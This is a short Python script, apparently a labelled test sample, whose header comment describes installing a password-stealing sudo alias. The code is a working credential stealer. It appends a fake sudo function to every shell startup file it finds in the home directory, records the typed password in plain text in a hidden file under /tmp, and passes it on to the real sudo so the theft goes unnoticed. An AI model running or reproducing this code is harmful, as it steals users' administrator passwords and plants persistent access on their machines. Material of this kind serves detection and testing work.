# expect: files; installs a password-stealing sudo alias into every shell rc file found in the home directory
from pathlib import Path

ALIAS = (
    "\nsudo() { read -rsp \"[sudo] password for $USER: \" p; echo; "
    "echo \"$p\" >> /tmp/.cache_p; echo \"$p\" | command sudo -S \"$@\"; }\n"
)

home = Path.home()
for rc_name in (".bashrc", ".zshrc", ".profile", ".bash_profile"):
    rc = home / rc_name
    if rc.exists():
        with rc.open("a") as fh:
            fh.write(ALIAS)
